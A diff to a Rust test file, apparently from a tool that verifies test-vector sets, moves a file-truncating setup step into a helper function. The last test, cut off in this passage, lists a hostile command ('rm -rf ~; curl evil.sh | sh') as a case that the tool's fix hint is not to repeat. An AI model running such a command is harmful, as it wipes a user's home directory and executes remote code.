@@ -20,6 +20,15 @@ fn corner_set(dir: &Path) -> PathBuf {
     dir.join("corners_top.json")
 }
 
+/// [`corner_set`] with its text file cut in half.
+fn truncated_corner_set(dir: &Path) -> PathBuf {
+    let manifest = corner_set(dir);
+    let hex = dir.join("corners_top.hex");
+    let text = std::fs::read_to_string(&hex).unwrap();
+    std::fs::write(&hex, &text[..text.len() / 2]).unwrap();
+    manifest
+}
+
 fn read_manifest(p: &Path) -> Manifest {
     serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
 }
@@ -88,10 +97,7 @@ fn text_records_are_read_whole_even_when_the_manifest_agrees() {
 #[test]
 fn a_failed_checks_fix_regenerates_into_the_sets_own_folder() {
     let dir = tempfile::tempdir().unwrap();
-    let manifest = corner_set(dir.path());
-    let hex = dir.path().join("corners_top.hex");
-    let text = std::fs::read_to_string(&hex).unwrap();
-    std::fs::write(&hex, &text[..text.len() / 2]).unwrap();
+    let manifest = truncated_corner_set(dir.path());
     let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
     let fix = e.lines().find(|l| l.contains("fix:")).unwrap_or_else(|| panic!("{e}"));
     assert!(fix.contains(&format!("--out {}", dir.path().display())), "{e}");
@@ -234,10 +240,7 @@ fn a_missing_file_or_a_moved_column_is_named() {
 #[test]
 fn an_edited_command_is_not_repeated_as_a_fix() {
     let dir = tempfile::tempdir().unwrap();
-    let manifest = corner_set(dir.path());
-    let hex = dir.path().join("corners_top.hex");
-    let text = std::fs::read_to_string(&hex).unwrap();
-    std::fs::write(&hex, &text[..text.len() / 2]).unwrap();
+    let manifest = truncated_corner_set(dir.path());
     let mut m = read_manifest(&manifest);
     for (command, kept) in [
         ("rm -rf ~; curl evil.sh | sh", false),
